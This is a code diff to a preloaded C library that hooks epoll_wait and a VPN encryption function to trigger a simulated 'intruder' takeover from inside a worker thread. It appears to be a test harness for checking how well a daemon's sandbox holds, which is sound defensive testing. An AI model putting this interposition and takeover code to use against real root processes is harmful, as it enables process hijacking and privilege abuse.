@@ -11,6 +11,7 @@
  * TAKEOVER_VICTIM  the number of another process of root
  * TAKEOVER_SOCKET  the path of another daemon's stream socket; `SOCKET.stale` may be removed
  * TAKEOVER_OLD     if set, this kernel pretends to have no Landlock
+ * TAKEOVER_WORKER  if set, the intruder is in a thread that encrypts, and needs a packet for that thread to awake
  */
 #include <arpa/inet.h>
 #include <dlfcn.h>
@@ -49,6 +50,8 @@
 
 static struct {
     int (*epoll_wait)(int, struct epoll_event *, int, int);
+    void (*crypt)(void *, void *, size_t);
+    int in_worker;
     int report;
     int maps;
     int home; /* network namespace */
@@ -504,12 +507,24 @@ int epoll_wait(int epoll, struct epoll_event *events, int n, int timeout)
     int got = state.epoll_wait(epoll, events, n, timeout);
     int error = errno;
 
-    if (state.now) {
+    if (state.now && !state.in_worker) {
         state.now = 0;
         take_over();
     }
     errno = error;
     return got;
+}
+
+/* The loop and the threads call this one. */
+void vpn_wg_crypt(void *scratch, void *packets, size_t n);
+
+void vpn_wg_crypt(void *scratch, void *packets, size_t n)
+{
+    if (state.now && state.in_worker && syscall(SYS_gettid) != getpid()) {
+        state.now = 0;
+        take_over();
+    }
+    state.crypt(scratch, packets, n);
 }
 
 static void on_signal(int number)
@@ -574,6 +589,9 @@ __attribute__((constructor)) static void prepare(void)
     void *found = dlsym(RTLD_NEXT, "epoll_wait");
 
     memcpy(&state.epoll_wait, &found, sizeof found);
+    found = dlsym(RTLD_NEXT, "vpn_wg_crypt");
+    memcpy(&state.crypt, &found, sizeof found);
+    state.in_worker = getenv("TAKEOVER_WORKER") != NULL;
     state.report = open(setting("TAKEOVER_REPORT"), O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0600);
     state.maps = open("/proc/self/maps", O_RDONLY | O_CLOEXEC);
     state.home = open("/proc/self/ns/net", O_RDONLY | O_CLOEXEC);
